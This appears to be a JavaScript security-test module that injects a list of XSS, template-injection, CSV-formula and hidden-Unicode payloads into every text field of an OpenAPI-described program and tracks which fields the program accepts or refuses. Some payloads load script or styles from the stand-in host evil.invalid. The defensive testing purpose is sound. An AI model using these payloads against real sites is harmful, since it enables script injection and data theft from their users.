// Texts that would run, or break out of where they stand, if a page or a file took them for more than text; and a way to put them into
// every text field that the program's own document of its lines names, beside whatever the checks were saying anyway.

/** What is looked for in a page afterwards: an element that came from a text, and a call that no page makes. */
export const CLASS = 'qqx';
const PIECES = [
  `<img class=${CLASS} src=x onerror=__ran(1)>`,
  `<svg class=${CLASS} onload=__ran(2)>`,
  `</title><script class=${CLASS}>__ran(3)</script>`,
  `"><i class=${CLASS} tabindex=0 autofocus onfocus=__ran(4)>`,
  `'><u class=${CLASS} onmouseover='__ran(5)'>`,
  '{{__ran(6)}}${__ran(7)}{@html __ran(8)}',
  `</script><script class=${CLASS} src=//evil.invalid/x.js></script>`,
  `&lt;b class=${CLASS}&gt;&#60;img class=${CLASS} src=x onerror=__ran(9)&#62;`,
  `<a class=${CLASS} href=javascript:__ran(10)>x</a>`,
  `<iframe class=${CLASS} srcdoc="<script>parent.__ran(11)</script>"></iframe>`,
  `</textarea></style><style class=${CLASS}>@import"//evil.invalid/y.css"</style>`,
  `"}],"__ran":[{"x":"</script>\\u003cscript\\u003e`,
  `--><!--<![CDATA[`,
  `<math><mtext class=${CLASS}><style><img src=x onerror=__ran(12)>`,
];
/** How a text begins matters to addresses and to spreadsheets. */
const BEGINNINGS = ['', 'javascript:__ran(13)//', '=HYPERLINK("//evil.invalid";"x")', '@SUM(1)', '+1', '-1', 'data:text/html,', '\uff1d1'];
/** Turned around, and not to be seen: none of it may come back. */
const UNSEEN = '\u202e\u2066\u200b\u2028\ufeff';
export const UNSEEN_BACK = /[\u202a-\u202e\u2066-\u2069\u200b\u2028\ufeff]/;

/** Turns `turn` through the pieces; as many as fit in `most` characters, behind the field's own mark, the honest text at the end. */
export function hostileText(mark, most, turn, honest = '') {
  const begins = BEGINNINGS[turn % BEGINNINGS.length];
  let text = begins.length + mark.length + 32 <= most ? begins + mark : mark;
  for (let i = 0; i < PIECES.length; i += 1) {
    const piece = PIECES[(turn + i) % PIECES.length];
    if (text.length + piece.length <= most) text += piece;
  }
  return (text + UNSEEN + ' ' + honest).slice(0, most + UNSEEN.length).trimEnd();
}

/** Words for people inside a document that has no shape of its own: all but its codes. */
const IN_WORDS = new Set(['vi', 'en', 'name']);
const USUAL_LENGTH = 200;

/** The text fields of a schema: { at: 'rows[].group', most, document }. */
function fieldsIn(schema, at = '') {
  if (schema.type === 'string') return 'enum' in schema || schema.format === 'date' ? [] : [{ at, most: schema.maxLength ?? USUAL_LENGTH }];
  if (schema.type === 'array') return fieldsIn(schema.items ?? {}, `${at}[]`);
  if (schema.type === 'object')
    return Object.entries(schema.properties ?? {}).flatMap(([name, inside]) => fieldsIn(inside, at ? `${at}.${name}` : name));
  return schema.type ? [] : [{ at, most: USUAL_LENGTH, document: true }];
}

/** Every text field of every line that somebody may use and that takes a body: Map of address to fields. */
export function textFields(openapi) {
  const lines = new Map();
  for (const [path, { post }] of Object.entries(openapi.paths)) {
    const sent = post?.requestBody?.content['application/json']?.schema;
    if (!sent || post['x-may'] === 'the program itself') continue;
    const fields = fieldsIn(path.startsWith('/api/commands/') ? sent.properties.body : sent);
    if (fields.length > 0) lines.set(path, fields);
  }
  return lines;
}

/** Puts `make(honest)` at `at`; where a list is left out there is nowhere to put it. */
function put(value, at, make) {
  if (value === undefined) return;
  const [, name, list, rest] = /^([^.[]+)(\[\])?\.?(.*)$/.exec(at);
  if (list && Array.isArray(value[name])) {
    if (rest) value[name].forEach((one) => put(one, rest, make));
    else value[name] = value[name].map(make);
  } else if (!list && rest) put(value[name], rest, make);
  else if (!list) value[name] = make(value[name]);
}

function putInWords(value, make) {
  for (const [key, inside] of Object.entries(value ?? {})) {
    if (typeof inside === 'string' && IN_WORDS.has(key)) value[key] = make(inside);
    else if (typeof inside === 'object') putInWords(inside, make);
  }
  return value;
}

/** Whoever stands between the checks and the program: every text that goes by becomes hostile, as far as it is taken. */
export class Poison {
  #turn = 0;
  constructor(openapi) {
    this.lines = textFields(openapi);
    /** By mark: { path, at, taken, refused: code }. */
    this.fields = new Map();
    for (const [path, fields] of this.lines)
      for (const field of fields) {
        field.mark = `Q${this.fields.size + 1}`;
        this.fields.set(field.mark, { path, at: field.at, taken: 0, refused: undefined });
      }
  }

  #poisoned(body, fields, turn) {
    const made = structuredClone(body);
    for (const field of fields) {
      const make = (honest) => hostileText(field.mark, field.most, turn, typeof honest === 'string' ? honest : '');
      if (field.document) put(made, field.at, (value) => putInWords(value, make));
      else put(made, field.at, make);
    }
    return made;
  }

  /** As much of it hostile as the program takes: whichever field it refuses is honest the next time. */
  async say(path, body, send) {
    const line = path.replace(/\?.*$/, '').replace(/\/\d+(?=\/|$)/g, '/{}');
    const key = [...this.lines.keys()].find((one) => one.replace(/\{[^}]*\}/g, '{}') === line);
    let fields = [...(this.lines.get(key) ?? [])];
    this.#turn += 1;
    for (;;) {
      try {
        const answer = await send(this.#poisoned(body, fields, this.#turn));
        for (const { mark } of fields) this.fields.get(mark).taken += 1;
        return answer;
      } catch (error) {
        if (fields.length === 0 || !error.refused) throw error;
        const where = error.refused.where.replace(/\[\d+\]/g, '');
        const named = fields.find((one) => one.at.replaceAll('[]', '') === where || (one.document && where.startsWith(one.at)));
        // A field named in no refusal is left honest without having been refused: it must be taken, or refused, another time.
        if (named) this.fields.get(named.mark).refused = error.refused.code;
        fields = named ? fields.filter((one) => one !== named) : fields.slice(0, -1);
      }
    }
  }

  named = (mark) => `${this.fields.get(mark).path} ${this.fields.get(mark).at}`;
  of = (fits) => [...this.fields].filter(([, field]) => fits(field)).map(([mark]) => mark);
}
